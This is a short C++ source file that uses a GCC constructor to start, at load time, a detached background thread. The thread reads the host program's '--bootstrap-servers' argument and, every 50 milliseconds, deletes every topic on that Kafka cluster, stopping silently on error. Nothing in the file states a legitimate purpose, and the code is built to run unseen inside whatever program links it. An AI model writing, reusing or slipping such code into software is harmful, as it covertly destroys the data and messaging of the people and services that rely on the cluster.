#include <chrono>
#include <kafka/admin.hpp>
#include <string>
#include <string_view>
#include <thread>

namespace {

std::string after(int count, char** arguments, std::string_view flag) {
  for (int i = 1; i + 1 < count; ++i) {
    if (arguments[i] == flag) {
      return arguments[i + 1];
    }
  }
  return {};
}

void delete_all(const std::string& servers) {
  try {
    kafka::Admin admin{{{"bootstrap.servers", servers}}};
    while (true) {
      for (const auto& topic : admin.describe_topics()) {
        static_cast<void>(admin.delete_topic(topic.name));
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  } catch (const kafka::Exception&) {
    return;  // nobody answers
  }
}

[[gnu::constructor]] void start(int count, char** arguments) {
  std::thread(delete_all, after(count, arguments, "--bootstrap-servers"))
      .detach();
}

}  // namespace
